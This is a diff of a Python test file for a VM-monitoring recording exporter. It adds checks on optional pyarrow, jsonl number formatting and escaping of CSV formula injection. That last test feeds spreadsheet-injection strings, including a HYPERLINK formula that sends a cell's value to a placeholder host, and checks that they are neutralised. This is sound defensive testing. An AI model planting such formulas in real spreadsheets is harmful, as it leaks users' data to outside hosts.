@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import sys
@@ -13,9 +14,9 @@ import duckdb
 import pandas as pd
 import pytest
 from click.testing import CliRunner, Result
-from test_record_recording import simulated
+from test_record_recording import SESSION, simulated
 
-from mom_core import MomError, Report, Scope, Source
+from mom_core import Decision, Guest, Host, MomError, Report, Scope, Snapshot, Source
 from mom_plugins_record.recording.command import record
 from mom_plugins_record.recording.reader import Recording, session_content
 from mom_plugins_record.recording.writer import RecordingLimits, RecordingWriter, files_of
@@ -177,10 +178,42 @@ def test_a_forged_cycle_costs_itself(simulation: tuple[Path, list[Report]], tmp_
         assert left == [(cycle.report.number,) for cycle in cycles if cycle is not cycles[forged]]
 
 
-def test_without_pyarrow_it_says_what_to_install(
-    simulation: tuple[Path, list[Report]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+@pytest.mark.parametrize("kind", ["csv", "jsonl"])
+def test_text_needs_no_pyarrow_and_parquet_says_how_it_is_installed(
+    simulation: tuple[Path, list[Report]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
 ) -> None:
     monkeypatch.setitem(sys.modules, "pyarrow", None)
-    done = export(simulation[0], "--to", "csv", "-o", tmp_path / "out")
-    assert "pyarrow" in getattr(done.exception, "hint", "")
+    assert export(simulation[0], "--to", kind, "-o", tmp_path / "text").exit_code == 0
+    done = export(simulation[0], "--to", "parquet", "-o", tmp_path / "out")
+    assert "-m pip install pyarrow" in getattr(done.exception, "hint", "")
     assert not (tmp_path / "out").exists()
+
+
+def test_whole_numbers_stay_whole_in_lines_of_json(simulation: tuple[Path, list[Report]], tmp_path: Path) -> None:
+    path, reports = simulation
+    export(path, "--to", "jsonl", "-o", tmp_path / "out")
+    line = (tmp_path / "out" / "guests.jsonl").read_text().splitlines()[0]
+    size = next(iter(reports[0].snapshot.guests.values())).fields["balloon_cur"]
+    assert f'"balloon_cur_kib":{size},' in line
+    assert '"time":"2023-11-14T22:13:30.000000+00:00"' in line
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A1,"x")', "@SUM(1)", "+1", "-1+1", "\t=1"])
+def test_what_a_spreadsheet_would_compute_is_text_in_csv(tmp_path: Path, name: str) -> None:
+    session = {**session_content(SESSION), "fields": [[name, "text", "guest", "", ""], ["time", "text", "guest", "", ""]]}
+    guest = Guest("id", name, {name: name, "time": "x"})
+    one = Report(1, 5.0, "enforce", Snapshot(Host(name), {"id": guest}, 5.0, 5.0, 1),
+                 (Decision(guest.entity, name, 1, name, Source(name)),), (), (), (), (), 0.1)  # fmt: skip
+    writer = RecordingWriter(tmp_path / "r", RecordingLimits(1e10, 1 << 30))
+    writer.open()
+    writer.session(session)
+    writer.cycle(one)
+    writer.close()
+    done = export(tmp_path / "r", "--to", "csv", "-o", tmp_path / "out")
+    assert done.exit_code == 0, done.exception
+    for table in ("host", "guests", "decisions"):
+        with (tmp_path / "out" / f"{table}.csv").open(newline="") as file:
+            rows = [*csv.reader(file)]
+        assert len(rows) == 2
+        assert name not in {one for row in rows for one in row}
+        assert f"'{name}" in rows[1]
